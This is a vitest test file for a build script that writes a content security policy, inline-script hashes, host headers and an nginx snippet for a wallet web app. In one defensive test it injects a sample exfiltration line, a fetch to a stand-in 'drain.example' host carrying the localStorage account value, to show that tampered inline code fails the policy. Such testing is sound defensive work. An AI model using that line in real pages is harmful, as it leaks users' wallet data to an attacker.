// The content security policy and host configuration the build writes (scripts/security-policy.mjs).
import { spawn, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import type { AppConfig } from '../src/config'
import { chainEndpoints } from '../src/wallet/rpc-endpoints'
import { securitySources } from '../vite.config'
import {
  ASSET_CACHE,
  applySecurityPolicy,
  contentSecurityPolicy,
  HTML_CACHE,
  headersFor,
  inlineHashes,
  MAGIC_RELAY,
  parseExtraSources,
  policySources,
  readSecurityInputs,
  SECURITY_HEADERS,
  sourceOf,
  WALLETCONNECT_RELAY,
  WALLETCONNECT_VERIFY,
  withPolicyMeta,
} from './security-policy.mjs'

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
/** The value of one directive of a policy. */
const directive = (policy: string, name: string) =>
  policy
    .split('; ')
    .find((d) => d.startsWith(`${name} `))
    ?.slice(name.length + 1)

const LOCAL = {
  api: '/api',
  rpc: ['/rpc/31337', 'https://bsc-dataseed.bnbchain.org'],
  walletConnect: null,
  socialLogin: false,
}

const page = (script: string, extra = '') => `<!doctype html>
<html lang="en">
  <head>
    <meta charset="UTF-8" />
    <title>Finaverse</title>
    <script>${script}</script>
    <style>body{color:red}</style>
  </head>
  <body><div id="app"><span style="color:#7fc8ff">x</span></div>${extra}<script type="module" crossorigin src="/assets/index.js"></script></body>
</html>
`

let dirs: string[] = []
afterEach(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true })
  dirs = []
})
function tempDir() {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'finaverse-csp-test-'))
  dirs.push(dir)
  return dir
}

describe('policy sources', () => {
  it("takes paths on the site as 'self' and absolute endpoints by origin, without WalletConnect or Magic by default", () => {
    const sources = policySources({
      ...LOCAL,
      api: 'https://api.example.org/v1',
      rpc: [
        '/rpc/31337',
        'https://rpc.example/key/abc',
        'https://rpc.example/other',
        'http://127.0.0.1:8545',
      ],
    })
    expect(sources.connect).toEqual([
      "'self'",
      'http://127.0.0.1:8545',
      'https://api.example.org',
      'https://rpc.example',
    ])
    expect(sources.frame).toEqual([])
  })

  it("names WalletConnect's relay (its own or the configured one) and Verify, and Magic's frame, only when configured", () => {
    const own = policySources({ ...LOCAL, walletConnect: { relayUrl: null } })
    expect(own.connect).toEqual(expect.arrayContaining([WALLETCONNECT_RELAY, WALLETCONNECT_VERIFY]))
    expect(own.frame).toEqual([WALLETCONNECT_VERIFY])
    const configured = policySources({ ...LOCAL, walletConnect: { relayUrl: 'wss://relay.example.org/ws' } })
    expect(configured.connect).toContain('wss://relay.example.org')
    expect(configured.connect).not.toContain(WALLETCONNECT_RELAY)
    expect(policySources({ ...LOCAL, socialLogin: true }).frame).toEqual([MAGIC_RELAY])
  })

  it('refuses an endpoint that is neither a path nor an http(s) or ws(s) URL, naming it', () => {
    expect(() => sourceOf('ftp://files.example')).toThrow(
      '"ftp://files.example" is not an http(s) or ws(s) URL',
    )
    expect(() => sourceOf('rpc.example')).toThrow(
      '"rpc.example" is neither a path on the site nor an absolute URL',
    )
    expect(() => sourceOf('//cdn.example/x')).toThrow('is neither a path on the site nor an absolute URL')
  })
})

describe("the build's sources (vite.config.ts)", () => {
  const app = (network: AppConfig['network'], more: Partial<AppConfig> = {}): AppConfig => ({
    network,
    apiBase: '/api',
    rpcUrls: {},
    localRpcUrls: {},
    walletConnectProjectId: null,
    socialLoginClientId: null,
    walletConnectRelayUrl: null,
    links: {
      whitepaper: null,
      docs: null,
      market: null,
      swap: null,
      miningGame: null,
      events: null,
      community: null,
    },
    guildWarsDate: { iso: '2026-12-12', text: { en: '', zh: '' } },
    ...more,
  })

  it('names every endpoint of every chain the network switch offers, and only those', () => {
    const testnet = policySources(
      securitySources(app('testnet', { rpcUrls: { 97: ['https://bsc.example/key'] } })),
    )
    for (const id of [56, 137, 80002])
      for (const url of chainEndpoints(id, {})) expect(testnet.connect).toContain(new URL(url).origin)
    expect(testnet.connect).toContain('https://bsc.example')
    // The configured list replaces the chain's public endpoints, and the devnets are not offered.
    for (const url of chainEndpoints(97, undefined))
      expect(testnet.connect).not.toContain(new URL(url).origin)
    expect(testnet.connect).not.toContain('http://127.0.0.1:8545')
    // A local build reaches its devnets through its own origin.
    expect(securitySources(app('local')).rpc).toEqual(expect.arrayContaining(['/rpc/31337', '/rpc/31338']))
  })

  it('adds WalletConnect and Magic only when configured, and an API on another origin', () => {
    const plain = securitySources(app('mainnet'))
    expect(plain).toMatchObject({ walletConnect: null, socialLogin: false, extra: {} })
    const configured = securitySources(
      app('mainnet', {
        apiBase: 'https://api.example.org',
        walletConnectProjectId: '0123456789abcdef0123456789abcdef',
        walletConnectRelayUrl: 'wss://relay.example.org',
        socialLoginClientId: 'pk_live_x',
      }),
      'img-src https://cdn.example.org',
    )
    expect(configured).toMatchObject({
      api: 'https://api.example.org',
      walletConnect: { relayUrl: 'wss://relay.example.org' },
      socialLogin: true,
      extra: { 'img-src': ['https://cdn.example.org'] },
    })
  })
})

describe("an operator's extra origins (CSP_EXTRA)", () => {
  it('adds origins to the directives named, and only there', () => {
    const extra = parseExtraSources(
      'connect-src https://stats.example.org/api wss://feed.example.org; script-src https://stats.example.org',
    )
    expect(extra).toEqual({
      'connect-src': ['https://stats.example.org', 'wss://feed.example.org'],
      'script-src': ['https://stats.example.org'],
    })
    const policy = contentSecurityPolicy(policySources({ ...LOCAL, extra }), inlineHashes(page('x')))
    expect(directive(policy, 'connect-src')).toContain('https://stats.example.org')
    expect(directive(policy, 'script-src')).toMatch(/^'self' https:\/\/stats\.example\.org 'sha256-/)
    expect(directive(policy, 'img-src')).toBe("'self' data:")
    expect(parseExtraSources('')).toEqual({})
  })

  it('refuses keywords, wildcards, schemes alone and directives it does not extend, naming them', () => {
    expect(() => parseExtraSources("script-src 'unsafe-inline'")).toThrow(
      `CSP_EXTRA: "'unsafe-inline'" (script-src) is not an http(s) or ws(s) origin`,
    )
    expect(() => parseExtraSources('script-src https://*.example.org')).toThrow('https://*.example.org')
    expect(() => parseExtraSources('connect-src https:')).toThrow('"https:" (connect-src)')
    expect(() => parseExtraSources('frame-ancestors https://a.example')).toThrow(
      'CSP_EXTRA: "frame-ancestors" is not a directive the site lets you extend',
    )
    expect(() => parseExtraSources('connect-src')).toThrow('CSP_EXTRA: "connect-src" names no origin')
  })
})

describe('inline code', () => {
  it('hashes inline scripts, styles and style attributes as the browser does, not scripts with src or data blocks', () => {
    const html = `${page('var a = 1')}<script type="application/json">{"a":1}</script><div style="a:&quot;b&quot;"></div>`
    const inline = inlineHashes(html)
    expect(inline.scripts).toEqual([hash('var a = 1')])
    expect(inline.styles).toEqual([hash('body{color:red}')])
    expect(inline.styleAttributes).toEqual([hash('color:#7fc8ff'), hash('a:"b"')])
  })

  it('allows no inline code but the hashed, in either form; frame-ancestors only in the header', () => {
    const sources = policySources(LOCAL)
    const inline = inlineHashes(page('var a = 1'))
    const meta = contentSecurityPolicy(sources, inline)
    const header = contentSecurityPolicy(sources, inline, { header: true })
    for (const policy of [meta, header]) {
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/)
      expect(directive(policy, 'default-src')).toBe("'none'")
      expect(directive(policy, 'script-src')).toBe(`'self' ${hash('var a = 1')}`)
      expect(directive(policy, 'style-src-attr')).toBe(`'unsafe-hashes' ${hash('color:#7fc8ff')}`)
      expect(directive(policy, 'object-src')).toBe("'none'")
      expect(directive(policy, 'base-uri')).toBe("'none'")
      expect(directive(policy, 'form-action')).toBe("'self'")
      expect(directive(policy, 'frame-src')).toBe("'none'")
    }
    expect(directive(meta, 'frame-ancestors')).toBeUndefined()
    expect(directive(header, 'frame-ancestors')).toBe("'none'")
  })

  it('puts the meta right after <meta charset>, before any script or style, and replaces an older one', () => {
    const once = withPolicyMeta(page('x'), "default-src 'none'")
    const twice = withPolicyMeta(once, "default-src 'self'")
    expect(twice.match(/http-equiv="Content-Security-Policy"/g)).toHaveLength(1)
    expect(twice).toMatch(
      /<meta charset="UTF-8" \/>\n {4}<meta http-equiv="Content-Security-Policy" content="default-src 'self'">\n {4}<title>/,
    )
  })
})

describe('a build', () => {
  function build() {
    const dir = tempDir()
    mkdirSync(path.join(dir, 'zh'))
    mkdirSync(path.join(dir, 'assets'))
    writeFileSync(path.join(dir, 'index.html'), page('var home = 1'))
    writeFileSync(path.join(dir, 'zh/mint.html'), page('var mint = 1'))
    writeFileSync(path.join(dir, 'spa.html'), page('var shell = 1'))
    writeFileSync(path.join(dir, 'assets/index.js'), 'export {}\n')
    applySecurityPolicy(dir, LOCAL)
    return dir
  }
  const metaOf = (html: string) =>
    /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? ''

  it("gives each page a policy with its own inline code's hashes, and the headers those of every page", () => {
    const dir = build()
    const home = metaOf(readFileSync(path.join(dir, 'index.html'), 'utf8'))
    expect(directive(home, 'script-src')).toBe(`'self' ${hash('var home = 1')}`)
    expect(metaOf(readFileSync(path.join(dir, 'zh/mint.html'), 'utf8'))).toContain(hash('var mint = 1'))
    const headers = readFileSync(path.join(dir, '_headers'), 'utf8')
    for (const script of ['var home = 1', 'var mint = 1', 'var shell = 1'])
      expect(headers).toContain(hash(script))
    expect(readSecurityInputs(dir)).toEqual(LOCAL)
    // Applied again (the pre-render after `vite build`), from the sources kept: the same policy, one meta a page.
    const before = readFileSync(path.join(dir, 'index.html'), 'utf8')
    applySecurityPolicy(dir)
    expect(readFileSync(path.join(dir, 'index.html'), 'utf8')).toBe(before)
  })

  it('fails closed: an inline script changed after the build is not among the hashes', () => {
    const dir = build()
    const html = readFileSync(path.join(dir, 'index.html'), 'utf8')
    const changed = html.replace('var home = 1', 'fetch("https://drain.example/" + localStorage.account)')
    const policy = metaOf(changed)
    const [script] = inlineHashes(changed).scripts
    expect(directive(policy, 'script-src')?.split(' ')).not.toContain(script)
    expect(
      headersFor(readFileSync(path.join(dir, '_headers'), 'utf8'), '/')['Content-Security-Policy'],
    ).not.toContain(script)
  })

  it('sends the set everywhere, immutable caching for hashed assets and revalidation for every page', () => {
    const rules = readFileSync(path.join(build(), '_headers'), 'utf8')
    const asset = headersFor(rules, '/assets/index.js')
    expect(asset).toMatchObject({ ...SECURITY_HEADERS, 'Cache-Control': ASSET_CACHE })
    expect(asset['Content-Security-Policy']).toContain("frame-ancestors 'none'")
    for (const urlPath of ['/', '/index.html', '/zh/mint', '/zh/mint.html', '/spa.html'])
      expect(headersFor(rules, urlPath)).toMatchObject({ ...SECURITY_HEADERS, 'Cache-Control': HTML_CACHE })
    expect(headersFor(rules, '/not-a-page')['Cache-Control']).toBeUndefined()
    expect(headersFor(rules, '/not-a-page')['X-Frame-Options']).toBe('DENY')
  })
})

/** nginx, where the machine has it (the host configuration's own check; Debian's `nginx` package). */
const NGINX = ['/usr/sbin/nginx', '/usr/bin/nginx'].find((file) => existsSync(file))

async function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer()
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number }
      server.close(() => resolve(port))
    })
  })
}

// Without nginx on the machine there is nothing to run the snippet with: the test says so instead of passing.
describe.skipIf(!NGINX)('the nginx snippet (needs nginx)', () => {
  it('serves the pages and assets with the headers, and the shell for other paths', async () => {
    const dir = tempDir()
    // nginx's workers run as another user when it is started as root: they read the site.
    chmodSync(dir, 0o755)
    mkdirSync(path.join(dir, 'site/assets'), { recursive: true })
    const site = path.join(dir, 'site')
    writeFileSync(path.join(site, 'index.html'), page('var home = 1'))
    writeFileSync(path.join(site, 'mint.html'), page('var mint = 1'))
    writeFileSync(path.join(site, 'spa.html'), page('var shell = 1'))
    writeFileSync(path.join(site, 'assets/index-abc123.js'), 'export {}\n')
    const policy = applySecurityPolicy(site, LOCAL)
    const port = await freePort()
    const conf = path.join(dir, 'test.conf')
    writeFileSync(
      conf,
      `daemon off; pid ${dir}/nginx.pid; error_log stderr;
events {}
http {
  access_log off;
  client_body_temp_path ${dir}/body; proxy_temp_path ${dir}/proxy; fastcgi_temp_path ${dir}/fastcgi;
  uwsgi_temp_path ${dir}/uwsgi; scgi_temp_path ${dir}/scgi;
  server { listen 127.0.0.1:${port}; root ${site}; include ${site}/nginx.conf; }
}
`,
    )
    expect(spawnSync(NGINX as string, ['-t', '-p', dir, '-c', conf]).status).toBe(0)
    const nginx = spawn(NGINX as string, ['-p', dir, '-c', conf], { stdio: 'ignore' })
    try {
      const get = async (urlPath: string) => {
        for (let i = 0; ; i++) {
          try {
            return await fetch(`http://127.0.0.1:${port}${urlPath}`)
          } catch (error) {
            if (i > 50) throw error
            await new Promise((resolve) => setTimeout(resolve, 100))
          }
        }
      }
      for (const [urlPath, body, cache] of [
        ['/', 'var home = 1', HTML_CACHE],
        ['/mint', 'var mint = 1', HTML_CACHE],
        ['/somewhere/else', 'var shell = 1', HTML_CACHE],
        ['/assets/index-abc123.js', 'export {}', ASSET_CACHE],
      ] as const) {
        const response = await get(urlPath)
        expect(response.status, urlPath).toBe(200)
        expect(await response.text(), urlPath).toContain(body)
        expect(response.headers.get('cache-control'), urlPath).toBe(cache)
        expect(response.headers.get('content-security-policy'), urlPath).toBe(policy)
        for (const [name, value] of Object.entries(SECURITY_HEADERS))
          expect(response.headers.get(name), `${name} of ${urlPath}`).toBe(value)
      }
    } finally {
      nginx.kill('SIGTERM')
    }
  })
})
